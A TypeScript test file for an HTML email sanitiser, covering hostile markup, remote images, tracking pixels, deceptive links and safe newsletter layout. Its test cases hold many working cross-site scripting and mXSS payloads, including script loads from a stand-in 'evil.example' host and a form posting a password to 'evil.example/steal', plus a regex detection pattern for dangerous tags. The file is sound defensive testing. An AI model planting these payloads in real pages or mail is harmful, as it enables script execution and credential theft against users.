/**
 * The sanitiser against the hostile patterns HTML mail is known for: each
 * must come out unable to run code, load anything from elsewhere, submit a
 * form or leave the frame, while ordinary mail keeps its text and layout.
 */
import { describe, expect, test } from "bun:test";
import { sanitizeMailHtml } from "../../../src/mail/render/sanitize.ts";
import { isTrackerUrl } from "../../../src/mail/render/trackers.ts";

const blocked = (html: string) => sanitizeMailHtml(html, { allowRemote: false, inlineImages: new Map() });
const allowed = (html: string) => sanitizeMailHtml(html, { allowRemote: true, inlineImages: new Map() });

/** Nothing that can run, load or submit, in any casing. */
function expectInert(output: string) {
  expect(output).not.toMatch(/<script|<style|<iframe|<frame|<object|<embed|<svg|<math|<form|<input|<button|<meta|<base|<link|<noscript|<template/i);
  expect(output).not.toMatch(/\son[a-z]+\s*=/i);
  expect(output).not.toMatch(/javascript:|vbscript:|data:text|expression\(|@import|url\(/i);
}

describe("hostile patterns", () => {
  const cases: [string, string][] = [
    ["script tag", `<p>a</p><script>window.__pwned=1</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>`],
    ["event handlers", `<p onclick="alert(1)" onmouseover=alert(1)>x</p><img src=x onerror=alert(1)><body onload=alert(1)>`],
    ["javascript: links", `<a href="javascript:alert(1)">a</a><a href=" JAVASCRIPT:alert(1)">b</a><a href="java\tscript:alert(1)">c</a>`],
    ["entity-encoded javascript: link", `<a href="jav&#x61;script:alert(1)">x</a><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">y</a>`],
    ["vbscript and data links", `<a href="vbscript:msgbox(1)">v</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>`],
    ["SVG with script", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><circle r="5"/></svg>`],
    ["SVG animate", `<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/><set attributeName="href" to="javascript:alert(1)"/></svg>`],
    [
      "CSS url() and @import",
      `<div style="background:url(https://evil.example/a.png);color:red">a</div><style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b.png)}</style>`,
    ],
    ["CSS expression and escapes", `<div style="width:expression(alert(1))">a</div><div style="background:u\\72l(https://evil.example/x)">b</div>`],
    ["meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>x</p>`],
    ["base and link", `<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><p>x</p>`],
    ["forms", `<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="https://evil.example">Send</button></form>`],
    [
      "nested iframes",
      `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">`,
    ],
    ["mXSS: noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
    ["mXSS: math/mglyph/style", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`],
    ["mXSS: svg/p/style", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`],
    ["mXSS: template", `<template><img src=x onerror=alert(1)></template><p>x</p>`],
    ["comments and CDATA", `<!--<img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]><p>x</p>`],
  ];

  for (const [name, html] of cases) {
    test(name, () => {
      const { html: output } = blocked(html);
      expectInert(output);
      expect(output).not.toContain("evil.example");
      expect(output).not.toMatch(/alert\(1\)|__pwned/);
    });
  }

  test("the mXSS payloads stay inert after a second round (what the browser re-serialises is sanitised again)", () => {
    for (const [, html] of cases) expectInert(blocked(blocked(html).html).html);
  });
});

describe("images", () => {
  test("remote images become a placeholder with their alt text, and are counted", () => {
    const result = blocked(`<img src="https://cdn.example.com/logo.png" alt="Logo"><img src="http://cdn.example.com/a.png"><img src="//cdn.example.com/b.png">`);
    expect(result.html).not.toContain("cdn.example.com");
    expect(result.html).toContain(`<span class="mh-blocked" title="Logo">[Logo]</span>`);
    expect(result.blockedRemote).toBe(3);
  });

  test("with remote content allowed, images stay, upgraded to https; srcset does not", () => {
    const result = allowed(`<img src="https://cdn.example.com/logo.png" srcset="https://cdn.example.com/x2.png 2x"><img src="http://cdn.example.com/a.png"><img src="//cdn.example.com/b.png">`);
    expect(result.html).toBe(`<img src="https://cdn.example.com/logo.png" /><img src="https://cdn.example.com/a.png" /><img src="https://cdn.example.com/b.png" />`);
    expect(result.blockedRemote).toBe(0);
  });

  test("tracking pixels are dropped even when remote content is allowed", () => {
    const pixels = [
      `<img src="https://shop.example.com/o.png" width="1" height="1">`,
      `<img src="https://shop.example.com/o.png" style="width:1px;height:1px">`,
      `<img src="https://shop.example.com/o.png" width="0" height="0">`,
      `<img src="https://shop.example.com/banner.png" style="display:none">`,
      `<img src="https://shop.example.com/banner.png" style="visibility: hidden">`,
      `<img src="https://shop.us1.list-manage.com/track/open.php?u=1">`,
      `<img src="https://u123.ct.sendgrid.net/wf/open?upn=1" width="600">`,
      `<img src="https://shop.example.com/o.png" width="2" height="2">`,
      `<img src="https://shop.example.com/o.png" style="max-width:1px;max-height:1px">`,
      `<img src="https://shop.example.com/o.png" style="max-width: 2px">`,
    ];
    for (const pixel of pixels) {
      const result = allowed(pixel);
      expect(result.html).toBe("");
      expect(result.droppedTrackers).toBe(1);
    }
    expect(isTrackerUrl("https://example.org/photo.jpg")).toBe(false);
    expect(allowed(`<img src="https://example.org/photo.jpg" width="600" height="300">`).html).toContain("photo.jpg");
    expect(allowed(`<img src="https://example.org/icon.png" width="3" height="3">`).html).toContain("icon.png");
    expect(allowed(`<img src="https://example.org/photo.jpg" style="max-width:100%">`).html).toContain("photo.jpg");
  });

  test("cid: images come from the stored attachments; unknown ones and SVG data URLs are dropped", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    const result = sanitizeMailHtml(`<img src="cid:Logo@Mail"><img src="cid:missing@mail"><img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="><img src="data:image/gif;base64,R0lGODlh">`, {
      allowRemote: false,
      inlineImages: new Map([["logo@mail", png]]),
    });
    expect(result.html).toBe(`<img src="${png}" /><img src="data:image/gif;base64,R0lGODlh" />`);
  });

  test("table backgrounds are remote images too", () => {
    expect(blocked(`<table background="https://cdn.example.com/bg.png"><tr><td background="https://cdn.example.com/td.png">x</td></tr></table>`).html).toBe("<table><tr><td>x</td></tr></table>");
    expect(allowed(`<td background="https://cdn.example.com/td.png">x</td>`).html).toContain(`background="https://cdn.example.com/td.png"`);
  });
});

describe("links and layout", () => {
  test("links open in a new tab without opener and show their real target", () => {
    const { html } = blocked(`<a href="https://bank.example.com/login" target="_self" rel="opener" title="Your bank">Anmelden</a><a href="mailto:anna@example.org">mail</a>`);
    expect(html).toContain(`<a href="https://bank.example.com/login" target="_blank" rel="noopener noreferrer" title="https://bank.example.com/login">Anmelden</a>`);
    expect(html).toContain(`<a href="mailto:anna@example.org" target="_blank" rel="noopener noreferrer" title="mailto:anna@example.org">mail</a>`);
  });

  test("a link whose text names another host, or that would download a file, first opens the page that shows its target", () => {
    const leave = (href: string) => `/leave?to=${encodeURIComponent(href)}`.replace(/&/g, "&amp;");
    const deceptive = blocked(`<a href="https://bank.example.com.evil.example/login">https://bank.example.com</a>`).html;
    expect(deceptive).toContain(`href="${leave("https://bank.example.com.evil.example/login")}"`);
    expect(deceptive).toContain(`title="https://bank.example.com.evil.example/login"`);
    const nested = blocked(`<a href="https://evil.example/x?a=1&amp;b=2"><span>www.sparkasse.de</span></a>`).html;
    expect(nested).toContain(`href="${leave("https://evil.example/x?a=1&b=2")}"`);
    const download = blocked(`<a href="https://files.example.org/rechnung.zip" download>Rechnung</a>`).html;
    expect(download).toContain(`href="${leave("https://files.example.org/rechnung.zip")}"`);
    expect(download).not.toContain("download");
    // The same site under another name, or text that names no host, goes straight there.
    for (const honest of [`<a href="https://www.example.org/a">example.org</a>`, `<a href="https://example.org/a">https://www.example.org</a>`, `<a href="https://example.org/a">Jetzt lesen</a>`]) {
      expect(blocked(honest).html).not.toContain("/leave");
    }
  });

  test("quoted font names survive; a quote cannot end the attribute; entity-spelt url() is still a url()", () => {
    const { html } = blocked(`<p style="font-family:'Helvetica Neue',Arial;color:red">x</p><p style='font-family:"a\\" onmouseover=x"'>y</p><p style="background:u&#114;l(https://e.example/x)">z</p>`);
    expect(html).toBe(`<p style="font-family:'Helvetica Neue',Arial;color:red">x</p><p>y</p><p>z</p>`);
    expect(blocked(`<td style="background:#f4f4f4;border-top-color:#ccc">a</td><td style="background:#fff url(https://e.example/bg.png)">b</td>`).html).toBe(
      `<td style="background:#f4f4f4;border-top-color:#ccc">a</td><td>b</td>`,
    );
  });

  test("relative and fragment links lose their target", () => {
    expect(blocked(`<a href="/account">a</a><a href="#top">b</a>`).html).toBe("<a>a</a><a>b</a>");
  });

  test("ordinary newsletter markup keeps its text, tables and safe styles", () => {
    const { html } = blocked(
      `<table width="600" cellpadding="0" align="center" style="border-collapse:collapse;background-color:#fff"><tr><td style="font-family:Arial,sans-serif;color:#333;padding:10px;position:fixed">Hallo <b>Welt</b></td></tr></table><p class="x" id="y">Text</p>`,
    );
    expect(html).toBe(
      `<table width="600" cellpadding="0" align="center" style="border-collapse:collapse;background-color:#fff"><tr><td style="font-family:Arial,sans-serif;color:#333;padding:10px">Hallo <b>Welt</b></td></tr></table><p>Text</p>`,
    );
  });
});
